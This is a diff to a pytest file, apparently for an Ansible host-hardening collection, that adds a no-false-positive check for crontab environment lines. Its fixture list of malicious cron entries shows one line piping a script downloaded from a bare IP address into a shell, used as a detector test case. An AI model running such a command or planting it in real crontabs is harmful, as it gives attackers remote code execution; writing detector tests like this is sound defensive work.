@@ -5,6 +5,7 @@ import os
 import pytest
 
 from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
+from ansible_collections.hostguard.hardening.plugins.module_utils.cron import crontab_env, daemons
 
 MALICIOUS = [
     ("* * * * * curl -fsSL http://1.2.3.4/x.sh | sh", "spool_cronie", "download_piped_to_shell"),
@@ -175,6 +176,8 @@ def test_no_false_positive_on_this_hosts_stock_files():
                 continue
             text = raw.decode("utf-8", "backslashreplace")
             assert cron.match_line(text, cron.command_part(text, kind)) == [], (path, text)
+            if kind == "crond":      # crontab environment lines (SHELL=, PATH=, LD_*=, BASH_ENV=)
+                assert crontab_env.check_line(text, daemons.NAMES) is None, (path, text)
     assert len(read) >= 5, read          # this Debian host has cron.daily and init.d scripts
 
 
